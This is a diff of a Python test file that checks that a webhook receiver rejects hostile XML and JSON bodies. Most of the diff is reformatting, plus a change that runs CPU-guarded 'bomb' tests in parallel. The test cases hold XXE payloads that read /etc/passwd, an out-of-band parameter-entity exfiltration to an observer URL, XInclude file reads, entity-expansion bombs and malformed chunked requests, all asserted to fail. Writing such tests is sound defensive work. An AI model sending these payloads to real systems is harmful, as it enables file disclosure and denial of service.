@@ -42,7 +42,6 @@ from tests.conftest import (
     SAMPLE_JOB_ID,
     SUCCESS_XML,
     Clock,
-    callback_path,
     counts,
     make_job,
     queue_path,
@@ -62,9 +61,7 @@ PASSWD_LINE = "root:x:0:0"
 
 VALID = SUCCESS_XML
 VALID_JSON = json.dumps(
-    xml_to_wire_json(
-        etree.fromstring(VALID.encode(), etree.XMLParser(remove_blank_text=True))
-    )
+    xml_to_wire_json(etree.fromstring(VALID.encode(), etree.XMLParser(remove_blank_text=True)))
 )
 TABLES = ("jobs", "notifications", "events", "quarantined_notifications")
 
@@ -134,7 +131,9 @@ def valid_with(message: str = "", **replace: str) -> str:
 def with_doctype(declaration: str, message: str = "") -> bytes:
     """The valid sample behind ``<!DOCTYPE Response{declaration}>``, ``message`` (an entity
     reference, say) in <Message>: were the DOCTYPE let through, it would be accepted."""
-    return f'<?xml version="1.0"?>\n<!DOCTYPE Response{declaration}>\n{valid_with(message)}'.encode()
+    return (
+        f'<?xml version="1.0"?>\n<!DOCTYPE Response{declaration}>\n{valid_with(message)}'.encode()
+    )
 
 
 def billion_laughs() -> bytes:
@@ -189,7 +188,7 @@ class Hostile:
 
 
 def case(
-    id: str,  # noqa: A002
+    id: str,
     build: Callable[[Observers], Body],
     content_type: str | None,
     status: int,
@@ -225,49 +224,76 @@ XML_CASES = [
     case(
         "xxe-file-etc-passwd",
         _const(with_doctype(' [<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;")),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "xxe-file-sentinel",
         lambda o: with_doctype(f' [<!ENTITY x SYSTEM "{o.file_url}">]', "&x;"),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "xxe-http-external-entity",
         lambda o: with_doctype(f' [<!ENTITY x SYSTEM "{o.url}/entity">]', "&x;"),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "xxe-http-external-dtd",
         lambda o: with_doctype(f' SYSTEM "{o.url}/external.dtd"', "&leaked;"),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "xxe-http-public-dtd",
         lambda o: with_doctype(f' PUBLIC "-//cirelay//hostile//EN" "{o.url}/public.dtd"'),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "xxe-file-external-dtd",
         lambda o: with_doctype(f' SYSTEM "{o.file_url}"', "&leaked;"),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "xxe-unparsed-entity",
         lambda o: with_doctype(
             f' [<!NOTATION n SYSTEM "{o.url}/n"><!ENTITY u SYSTEM "{o.url}/u" NDATA n>]'
         ),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "parameter-entity-http",
         lambda o: with_doctype(f' [<!ENTITY % p SYSTEM "{o.url}/p.dtd"> %p;]', "&leaked;"),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "parameter-entity-file",
         lambda o: with_doctype(f' [<!ENTITY % p SYSTEM "{o.file_url}"> %p;]'),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "parameter-entity-out-of-band-exfiltration",
@@ -276,25 +302,37 @@ XML_CASES = [
             f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{o.url}/?leak=%file;'>\">"
             "%eval; %exfil;]"
         ),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case(
         "internal-entity-only",
         _const(with_doctype(' [<!ENTITY m "harmless">]', "&m;")),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case("doctype-without-declarations", _const(with_doctype("")), XML, 400, MALFORMED, DTD),
     case(
         "html5-doctype",
         _const(b"<!DOCTYPE html><html><body>hi</body></html>"),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     case("billion-laughs", _const(billion_laughs()), XML, 400, MALFORMED, DTD),
     case("quadratic-blowup", _const(quadratic_blowup()), XML, 400, MALFORMED, DTD),
     case(
         "quadratic-blowup-few-references",
         _const(quadratic_blowup(references=20)),
-        XML, 400, MALFORMED, DTD,
+        XML,
+        400,
+        MALFORMED,
+        DTD,
     ),
     # depth: libxml2's own limit (256) and ours (max_depth)
     case("xml-nesting-20000-deep", _const(deep_xml(20_000)), XML, 400, MALFORMED, r"depth|deep"),
@@ -302,51 +340,84 @@ XML_CASES = [
     case(
         "xml-nesting-one-over-the-cap",
         _const(deep_xml(DEPTH + 1)),
-        XML, 400, MALFORMED, rf"deeper than {DEPTH}",
+        XML,
+        400,
+        MALFORMED,
+        rf"deeper than {DEPTH}",
     ),
     # encodings: UTF-8 only
     case(
         "invalid-utf8-byte",
         _const(valid_with("@").encode().replace(b"@", b"\xff")),
-        XML, 400, MALFORMED, UTF8,
+        XML,
+        400,
+        MALFORMED,
+        UTF8,
     ),
     case(
         "overlong-utf8",
         _const(valid_with("@").encode().replace(b"@", b"\xc0\xbc")),
-        XML, 400, MALFORMED, UTF8,
+        XML,
+        400,
+        MALFORMED,
+        UTF8,
     ),
     case(
         "utf8-encoded-surrogate",
         _const(valid_with("@").encode().replace(b"@", b"\xed\xa0\x80")),
-        XML, 400, MALFORMED, UTF8,
+        XML,
+        400,
+        MALFORMED,
+        UTF8,
     ),
-    case("truncated-utf8-sequence", _const(VALID.encode() + b"\xe2\x82"), XML, 400, MALFORMED, UTF8),
+    case(
+        "truncated-utf8-sequence", _const(VALID.encode() + b"\xe2\x82"), XML, 400, MALFORMED, UTF8
+    ),
     case("latin1-bytes", _const(valid_with("café").encode("latin-1")), XML, 400, MALFORMED, UTF8),
     case("utf16-with-bom", _utf("utf-16"), XML, 400, MALFORMED, UTF8),
-    case("utf16-be-with-bom", _const(b"\xfe\xff" + VALID.encode("utf-16-be")), XML, 400, MALFORMED, UTF8),
+    case(
+        "utf16-be-with-bom",
+        _const(b"\xfe\xff" + VALID.encode("utf-16-be")),
+        XML,
+        400,
+        MALFORMED,
+        UTF8,
+    ),
     case("utf16-le-without-bom", _utf("utf-16-le"), XML, 400, MALFORMED, r"UTF-8|0x0"),
     case(
         "utf16-le-declared-without-bom",
         _utf("utf-16-le", declare=True),
-        XML, 400, MALFORMED, r"UTF-8|encoding",
+        XML,
+        400,
+        MALFORMED,
+        r"UTF-8|encoding",
     ),
     case(
         "utf16-be-declared-without-bom",
         _utf("utf-16-be", declare=True),
-        XML, 400, MALFORMED, r"UTF-8|encoding",
+        XML,
+        400,
+        MALFORMED,
+        r"UTF-8|encoding",
     ),
     case("utf32-le-without-bom", _utf("utf-32-le"), XML, 400, MALFORMED, r"UTF-8|encoding"),
     case("utf32-be-without-bom", _utf("utf-32-be"), XML, 400, MALFORMED, r"UTF-8|encoding"),
     case(
         "nul-byte",
         _const(valid_with("@").encode().replace(b"@", b"\x00")),
-        XML, 400, MALFORMED, r"0x0",
+        XML,
+        400,
+        MALFORMED,
+        r"0x0",
     ),
     case("nul-character-reference", _const(valid_with("&#0;").encode()), XML, 400, MALFORMED),
     case(
         "control-character",
         _const(valid_with("\x01").encode()),
-        XML, 400, MALFORMED, r"Char value 1",
+        XML,
+        400,
+        MALFORMED,
+        r"Char value 1",
     ),
     # well-formedness
     case("empty-body", _const(b""), XML, 400, MALFORMED, r"empty"),
@@ -357,26 +428,45 @@ XML_CASES = [
     case(
         "undefined-entity-reference",
         _const(valid_with("&leaked;").encode()),
-        XML, 400, MALFORMED, r"leaked",
+        XML,
+        400,
+        MALFORMED,
+        r"leaked",
     ),
     case("json-body-as-xml", _const(VALID_JSON.encode()), XML, 400, MALFORMED),
     # well-formed, wrong document
-    case("wrong-root-request", _const(first_valid("create_request")), XML, 400, INVALID, NOT_IN_SCHEMA),
+    case(
+        "wrong-root-request",
+        _const(first_valid("create_request")),
+        XML,
+        400,
+        INVALID,
+        NOT_IN_SCHEMA,
+    ),
     case("wrong-root-error", _const(first_valid("error")), XML, 400, INVALID, NOT_IN_SCHEMA),
     case(
         "wrong-root-html",
         _const(b"<html><body><p>hello</p></body></html>"),
-        XML, 400, INVALID, NOT_IN_SCHEMA,
+        XML,
+        400,
+        INVALID,
+        NOT_IN_SCHEMA,
     ),
     case(
         "namespaced-response-root",
         _const(VALID.replace("<Response>", '<Response xmlns="urn:evil">', 1).encode()),
-        XML, 400, INVALID, NOT_IN_SCHEMA,
+        XML,
+        400,
+        INVALID,
+        NOT_IN_SCHEMA,
     ),
     case(
         "attribute-on-root",
         _const(VALID.replace("<Response>", '<Response evil="1">', 1).encode()),
-        XML, 400, INVALID, r"attribute",
+        XML,
+        400,
+        INVALID,
+        r"attribute",
     ),
     case(
         "xinclude-file",
@@ -386,14 +476,20 @@ XML_CASES = [
             f'<xi:include href="{o.file_url}" parse="text"/>',
             1,
         ).encode(),
-        XML, 400, INVALID, r"include",
+        XML,
+        400,
+        INVALID,
+        r"include",
     ),
     case(
         "xinclude-http",
         lambda o: valid_with(
             f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{o.url}/x"/>'
         ).encode(),
-        XML, 400, INVALID, r"Message.*child elements",
+        XML,
+        400,
+        INVALID,
+        r"Message.*child elements",
     ),
     case(
         "xinclude-etc-passwd",
@@ -403,33 +499,51 @@ XML_CASES = [
                 'href="file:///etc/passwd" parse="text"/>'
             ).encode()
         ),
-        XML, 400, INVALID, r"Message.*child elements",
+        XML,
+        400,
+        INVALID,
+        r"Message.*child elements",
     ),
     # pass the XSD patterns, but are no dates
     case(
         "date-february-30",
         _const(VALID.replace("2024-11-18T21:03:44+0800", "2024-02-30T21:03:44+0800").encode()),
-        XML, 400, INVALID, DATE,
+        XML,
+        400,
+        INVALID,
+        DATE,
     ),
     case(
         "date-february-29-non-leap-year",
         _const(VALID.replace("2024-11-18T21:03:44+0800", "2023-02-29T21:03:44+0800").encode()),
-        XML, 400, INVALID, DATE,
+        XML,
+        400,
+        INVALID,
+        DATE,
     ),
     case(
         "date-year-0000",
         _const(VALID.replace("2024-11-18T21:03:44+0800", "0000-01-01T00:00:00+0800").encode()),
-        XML, 400, INVALID, DATE,
+        XML,
+        400,
+        INVALID,
+        DATE,
     ),
     case(
         "date-year-0001-east-of-utc",
         _const(VALID.replace("2024-11-18T21:03:44+0800", "0001-01-01T00:00:00+0800").encode()),
-        XML, 400, INVALID, DATE,
+        XML,
+        400,
+        INVALID,
+        DATE,
     ),
     case(
         "date-year-9999-west-of-utc",
         _const(VALID.replace("2024-11-18T21:05:02+0800", "9999-12-31T23:59:59-0100").encode()),
-        XML, 400, INVALID, DATE,
+        XML,
+        400,
+        INVALID,
+        DATE,
     ),
 ]
 
@@ -437,62 +551,125 @@ JSON_CASES = [
     case(
         "json-nesting-20000-deep-objects",
         _const(deep_json(20_000)),
-        JSON, 400, MALFORMED, r"deeper",
+        JSON,
+        400,
+        MALFORMED,
+        r"deeper",
     ),
     case(
         "json-nesting-20000-deep-arrays",
         _const(deep_json(20_000, "array")),
-        JSON, 400, MALFORMED, r"deeper",
+        JSON,
+        400,
+        MALFORMED,
+        r"deeper",
     ),
     case("json-nesting-100-deep", _const(deep_json(100)), JSON, 400, MALFORMED, r"deeper than 32"),
     case(
         "json-duplicate-keys",
         _const(b'{"EventName": "TaskFinish", "EventName": "TaskFinish"}'),
-        JSON, 400, MALFORMED, r"duplicate key",
+        JSON,
+        400,
+        MALFORMED,
+        r"duplicate key",
     ),
     case(
         "json-duplicate-keys-nested",
-        _const(VALID_JSON.replace('"State": "Success"', '"State": "Failed", "State": "Success"').encode()),
-        JSON, 400, MALFORMED, r"duplicate key 'State'",
+        _const(
+            VALID_JSON.replace(
+                '"State": "Success"', '"State": "Failed", "State": "Success"'
+            ).encode()
+        ),
+        JSON,
+        400,
+        MALFORMED,
+        r"duplicate key 'State'",
     ),
-    case("json-top-level-array", _const(f"[{VALID_JSON}]".encode()), JSON, 400, MALFORMED, r"object"),
+    case(
+        "json-top-level-array", _const(f"[{VALID_JSON}]".encode()), JSON, 400, MALFORMED, r"object"
+    ),
     case("json-top-level-string", _const(b'"TaskFinish"'), JSON, 400, MALFORMED, r"object"),
     case("json-top-level-number", _const(b"42"), JSON, 400, MALFORMED, r"object"),
     case("json-top-level-null", _const(b"null"), JSON, 400, MALFORMED, r"object"),
     case("json-top-level-true", _const(b"true"), JSON, 400, MALFORMED, r"object"),
     case("json-nan", _const(b'{"EventName": NaN}'), JSON, 400, MALFORMED, r"NaN"),
     case("json-infinity", _const(b'{"EventName": Infinity}'), JSON, 400, MALFORMED, r"Infinity"),
-    case("json-minus-infinity", _const(b'{"EventName": -Infinity}'), JSON, 400, MALFORMED, r"Infinity"),
+    case(
+        "json-minus-infinity",
+        _const(b'{"EventName": -Infinity}'),
+        JSON,
+        400,
+        MALFORMED,
+        r"Infinity",
+    ),
     case("json-key-with-space", _const(b'{"a b": "x"}'), JSON, 400, MALFORMED, r"element name"),
-    case("json-key-starting-with-digit", _const(b'{"1x": "x"}'), JSON, 400, MALFORMED, r"element name"),
+    case(
+        "json-key-starting-with-digit",
+        _const(b'{"1x": "x"}'),
+        JSON,
+        400,
+        MALFORMED,
+        r"element name",
+    ),
     case("json-key-empty", _const(b'{"": "x"}'), JSON, 400, MALFORMED, r"element name"),
-    case("json-key-with-colon", _const(b'{"xi:include": "x"}'), JSON, 400, MALFORMED, r"element name"),
-    case("json-key-with-angle-bracket", _const(b'{"a><b": "x"}'), JSON, 400, MALFORMED, r"element name"),
+    case(
+        "json-key-with-colon", _const(b'{"xi:include": "x"}'), JSON, 400, MALFORMED, r"element name"
+    ),
+    case(
+        "json-key-with-angle-bracket",
+        _const(b'{"a><b": "x"}'),
+        JSON,
+        400,
+        MALFORMED,
+        r"element name",
+    ),
     case(
         "json-string-control-character",
         _const(VALID_JSON.replace('"TaskFinish"', '"Task\\u0001Finish"').encode()),
-        JSON, 400, MALFORMED, r"control",
+        JSON,
+        400,
+        MALFORMED,
+        r"control",
     ),
     case(
         "json-string-nul",
         _const(VALID_JSON.replace('"TaskFinish"', '"Task\\u0000Finish"').encode()),
-        JSON, 400, MALFORMED, r"NULL|control",
+        JSON,
+        400,
+        MALFORMED,
+        r"NULL|control",
     ),
     case(
         "json-string-lone-surrogate",
         _const(VALID_JSON.replace('"TaskFinish"', '"\\ud800"').encode()),
-        JSON, 400, MALFORMED, r"surrogate",
+        JSON,
+        400,
+        MALFORMED,
+        r"surrogate",
     ),
     case(
         "json-key-lone-surrogate",
         _const(b'{"\\udc00": "x"}'),
-        JSON, 400, MALFORMED, r"element name",
+        JSON,
+        400,
+        MALFORMED,
+        r"element name",
     ),
-    case("json-nested-arrays", _const(b'{"JobsDetail": [[{}]]}'), JSON, 400, MALFORMED, r"nested arrays"),
+    case(
+        "json-nested-arrays",
+        _const(b'{"JobsDetail": [[{}]]}'),
+        JSON,
+        400,
+        MALFORMED,
+        r"nested arrays",
+    ),
     case(
         "json-invalid-utf8",
         _const(VALID_JSON.replace("TaskFinish", "@").encode().replace(b"@", b"\xff\xfe")),
-        JSON, 400, MALFORMED, UTF8,
+        JSON,
+        400,
+        MALFORMED,
+        UTF8,
     ),
     case("json-utf16-with-bom", _utf("utf-16", VALID_JSON), JSON, 400, MALFORMED, UTF8),
     case("json-utf16-le-without-bom", _utf("utf-16-le", VALID_JSON), JSON, 400, MALFORMED, UTF8),
@@ -501,10 +678,22 @@ JSON_CASES = [
     case(
         "json-huge-integer",
         _const(b'{"EventName": ' + b"9" * 5000 + b"}"),
-        JSON, 400, MALFORMED, r"digits",
+        JSON,
+        400,
+        MALFORMED,
+        r"digits",
     ),
-    case("json-trailing-garbage", _const(VALID_JSON.encode() + b"}"), JSON, 400, MALFORMED, r"Extra data"),
-    case("json-two-documents", _const((VALID_JSON * 2).encode()), JSON, 400, MALFORMED, r"Extra data"),
+    case(
+        "json-trailing-garbage",
+        _const(VALID_JSON.encode() + b"}"),
+        JSON,
+        400,
+        MALFORMED,
+        r"Extra data",
+    ),
+    case(
+        "json-two-documents", _const((VALID_JSON * 2).encode()), JSON, 400, MALFORMED, r"Extra data"
+    ),
     case("json-single-quotes", _const(b"{'EventName': 'TaskFinish'}"), JSON, 400, MALFORMED),
     case("json-comment", _const(b'{/* hi */"EventName": "TaskFinish"}'), JSON, 400, MALFORMED),
     case("json-empty-body", _const(b""), JSON, 400, MALFORMED),
@@ -513,12 +702,18 @@ JSON_CASES = [
     case(
         "json-wrong-shape",
         _const(b'{"Response": {"JobsDetail": {}}}'),
-        JSON, 400, INVALID, r"Response",
+        JSON,
+        400,
+        INVALID,
+        r"Response",
     ),
     case(
         "json-date-february-30",
         _const(VALID_JSON.replace("2024-11-18T21:03:44+0800", "2024-02-30T21:03:44+0800").encode()),
-        JSON, 400, INVALID, DATE,
+        JSON,
+        400,
+        INVALID,
+        DATE,
     ),
 ]
 
@@ -543,27 +738,41 @@ MEDIA_TYPE_CASES = [
     case(
         "content-type-octet-stream",
         _const(VALID.encode()),
-        "application/octet-stream", 415, UNSUPPORTED,
+        "application/octet-stream",
+        415,
+        UNSUPPORTED,
     ),
     case("content-type-missing", _const(VALID.encode()), None, 415, UNSUPPORTED),
     case("content-type-empty", _const(VALID.encode()), "", 415, UNSUPPORTED),
     case(
         "content-type-form",
         _const(b"EventName=TaskFinish"),
-        "application/x-www-form-urlencoded", 415, UNSUPPORTED,
+        "application/x-www-form-urlencoded",
+        415,
+        UNSUPPORTED,
     ),
     case(
         "content-type-multipart",
         _const(b"--b\r\n\r\nx\r\n--b--\r\n"),
-        "multipart/form-data; boundary=b", 415, UNSUPPORTED,
+        "multipart/form-data; boundary=b",
+        415,
+        UNSUPPORTED,
     ),
     case("content-type-xhtml", _const(VALID.encode()), "application/xhtml+xml", 415, UNSUPPORTED),
-    case("content-type-json-suffix", _const(VALID_JSON.encode()), "application/problem+json", 415, UNSUPPORTED),
+    case(
+        "content-type-json-suffix",
+        _const(VALID_JSON.encode()),
+        "application/problem+json",
+        415,
+        UNSUPPORTED,
+    ),
     case("content-type-html", _const(b"<html/>"), "text/html", 415, UNSUPPORTED),
     case(
         "content-type-text-plain-30mb",
         _big(VALID, 30 * MB),
-        "text/plain", 415, UNSUPPORTED,
+        "text/plain",
+        415,
+        UNSUPPORTED,
     ),
 ]
 
@@ -574,7 +783,9 @@ BY_ID = {p.id: p.values[0] for p in CASES}
 # --- sending --------------------------------------------------------------------------------
 
 
-def send(client: FlaskClient, path: str, body: Body, content_type: str | None, *, chunked: bool = False) -> TestResponse:
+def send(
+    client: FlaskClient, path: str, body: Body, content_type: str | None, *, chunked: bool = False
+) -> TestResponse:
     """POST ``body``; ``chunked`` sends it with no Content-Length, as a WSGI server passes a
     chunked request on (``wsgi.input_terminated``)."""
     headers: dict[str, str] = {}
@@ -671,7 +882,11 @@ def test_queue_url_answers_the_same_and_creates_no_job(
 ) -> None:
     hostile = BY_ID[hostile_id]
     response = send(
-        client, queue_path(), hostile.build(observers), hostile.content_type, chunked=hostile.chunked
+        client,
+        queue_path(),
+        hostile.build(observers),
+        hostile.content_type,
+        chunked=hostile.chunked,
     )
     assert_answer(response, hostile)
     observers.assert_untouched()
@@ -716,7 +931,9 @@ def test_utf8_bom_is_accepted_and_is_the_same_notification(
     parser ignore it); the document behind it is what counts, so the BOM does not change the
     digest: the same notification with and without it is a duplicate."""
     body, content_type = (VALID, XML) if wire == "xml" else (VALID_JSON, JSON)
-    with_bom = client.post(job_path, data=b"\xef\xbb\xbf" + body.encode(), content_type=content_type)
+    with_bom = client.post(
+        job_path, data=b"\xef\xbb\xbf" + body.encode(), content_type=content_type
+    )
     without = client.post(job_path, data=body.encode(), content_type=content_type)
 
     assert with_bom.status_code == 200, with_bom.get_data()
@@ -767,6 +984,7 @@ def test_schema_location_hints_are_never_fetched(
         + ">"
     )
     response = client.post(job_path, data=VALID.replace("<Response>", root, 1), content_type=XML)
+    # accepted today (XSD allows xsi:* attributes everywhere); the point is: never fetched
     assert response.status_code in (200, 400), response.get_data()
     observers.assert_untouched()
 
@@ -812,14 +1030,14 @@ def test_worst_bodies_stay_within_a_memory_bound(
     finally:
         tracemalloc.stop()
 
-    assert response.status_code == hostile.status, response.get_data()[:500]
     assert peak < MEMORY_BOUND, f"peak {peak / MB:.1f} MiB"
+    assert response.status_code == hostile.status, response.get_data()[:500]
 
 
 # --- bodies that make many schema violations (isolated: a child process, a CPU guard) ------
 
 #: CPU seconds one request may use in the child before it is killed as a hang
-CPU_GUARD = 30
+CPU_GUARD = 15
 
 _CHILD = r"""
 import json, resource, sys, tracemalloc
@@ -904,38 +1122,60 @@ BOMBS = {
 }
 
 
-@pytest.mark.parametrize("bomb", sorted(BOMBS))
-def test_body_with_many_violations_is_answered_in_bounded_cpu_and_memory(
-    tmp_path: Path, bomb: str
-) -> None:
-    build, content_type = BOMBS[bomb]
-    body_path = tmp_path / "body"
-    body_path.write_bytes(build())
+@pytest.fixture(scope="module")
+def bomb_runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    """One child process per bomb, all started at once (the CPU guard is CPU time, so
+    running side by side cannot make one fail)."""
+    directory = tmp_path_factory.mktemp("bombs")
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
-    try:
-        done = subprocess.run(
-            [sys.executable, "-c", _CHILD, str(body_path), content_type,
-             str(tmp_path / "x.db"), str(CPU_GUARD)],
+    runs: dict[str, Any] = {}
+    for name, (build, content_type) in BOMBS.items():
+        body_path = directory / f"{name}.body"
+        body_path.write_bytes(build())
+        runs[name] = subprocess.Popen(
+            [
+                sys.executable,
+                "-c",
+                _CHILD,
+                str(body_path),
+                content_type,
+                str(directory / f"{name}.db"),
+                str(CPU_GUARD),
+            ],
             cwd=ROOT,
             env=env,
-            capture_output=True,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
             text=True,
-            timeout=CPU_GUARD * 6,
-            check=False,
         )
+    yield runs
+    for process in runs.values():
+        if process.poll() is None:
+            process.kill()
+        process.communicate()
+
+
+@pytest.mark.parametrize("bomb", sorted(BOMBS))
+def test_body_with_many_violations_is_answered_in_bounded_cpu_and_memory(
+    bomb_runs: dict[str, Any], bomb: str
+) -> None:
+    process = bomb_runs[bomb]
+    try:
+        stdout, stderr = process.communicate(timeout=CPU_GUARD * len(BOMBS) * 3)
     except subprocess.TimeoutExpired:
+        process.kill()
+        process.communicate()
         pytest.fail(f"{bomb}: no answer (hang)")
-    assert done.returncode == 0, (
-        f"{bomb}: the child died (returncode {done.returncode}; "
-        f"{-done.returncode == 24 and f'more than {CPU_GUARD} CPU-seconds' or 'see stderr'})\n"
-        f"{done.stderr[-3000:]}"
+    verdict = f"more than {CPU_GUARD} CPU-seconds" if process.returncode == -24 else "see stderr"
+    assert process.returncode == 0, (
+        f"{bomb}: the child died (returncode {process.returncode}: {verdict})\n{stderr[-3000:]}"
     )
-    result = json.loads(done.stdout.strip().splitlines()[-1])
+    result = json.loads(stdout.strip().splitlines()[-1])
+    assert result["peak"] < MEMORY_BOUND, f"peak {result['peak'] / MB:.1f} MiB"
+    assert result["rss_growth_kib"] * 1024 < 4 * MEMORY_BOUND
     assert result["status"] == 400, result
     assert result["answer"]["error"] in (MALFORMED, INVALID)
     assert result["answer_bytes"] <= CAP, "the answer is larger than the largest request"
-    assert result["peak"] < MEMORY_BOUND, f"peak {result['peak'] / MB:.1f} MiB"
-    assert result["rss_growth_kib"] * 1024 < 4 * MEMORY_BOUND
     assert result["new_rows"]["quarantined_notifications"] == 1
     assert result["new_rows"]["jobs"] == result["new_rows"]["notifications"] == 0
 
@@ -983,8 +1223,18 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
     }
     with log.open("wb") as out:
         process = subprocess.Popen(
-            [sys.executable, "-m", "app.cli", "serve", "--host", "127.0.0.1",
-             "--port", str(port), "--workers", "1"],
+            [
+                sys.executable,
+                "-m",
+                "app.cli",
+                "serve",
+                "--host",
+                "127.0.0.1",
+                "--port",
+                str(port),
+                "--workers",
+                "1",
+            ],
             cwd=ROOT,
             env=env,
             stdout=out,
@@ -1101,7 +1351,10 @@ def test_real_server_answers_4xx_and_stays_healthy(
         # a chunk whose data is not followed by CRLF
         (_raw_post("Transfer-Encoding: chunked\r\n", b"5\r\n<ResponseXX\r\n0\r\n\r\n"), 400),
         # a trailer that is no header
-        (_raw_post("Transfer-Encoding: chunked\r\n", b"3\r\n<R>\r\n0\r\nnot a header\r\n\r\n"), 400),
+        (
+            _raw_post("Transfer-Encoding: chunked\r\n", b"3\r\n<R>\r\n0\r\nnot a header\r\n\r\n"),
+            400,
+        ),
     ],
     ids=[
         "content-length-smaller-than-body",
